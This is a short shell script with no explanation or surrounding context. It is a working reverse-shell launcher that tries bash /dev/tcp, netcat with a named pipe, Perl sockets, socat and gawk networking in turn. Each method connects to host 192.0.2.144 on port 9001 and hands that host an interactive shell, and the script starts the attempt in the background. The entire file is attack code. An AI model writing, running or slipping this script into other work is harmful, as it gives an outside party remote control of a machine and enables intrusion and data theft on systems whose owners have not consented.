#!/bin/sh
H=192.0.2.144 P=9001
have() { command -v "$1" >/dev/null 2>&1; }
go() {
  if have bash; then bash -c "exec 5<>/dev/tcp/$H/$P; cat <&5 | while read -r l; do \$l 2>&5 >&5; done"; fi
  if have nc; then rm -f /tmp/.p; mkfifo /tmp/.p; /bin/sh -i </tmp/.p 2>&1 | nc $H $P >/tmp/.p; fi
  if have perl; then perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"'$H:$P'");open(STDIN,"<&",$s);open(STDOUT,">&",$s);open(STDERR,">&",$s);exec "/bin/sh -i"'; fi
  if have socat; then socat exec:'sh -li',pty,stderr,setsid,sigint,sane tcp:$H:$P; fi
  if have awk; then awk -v s="/inet/tcp/0/$H/$P" 'BEGIN{while(1){printf "> " |& s; if((s |& getline c)<=0) exit; while((c | getline x)>0) print x |& s; close(c)}}'; fi
}
nohup sh -c "$(command -V go >/dev/null; echo :)" >/dev/null 2>&1
go &
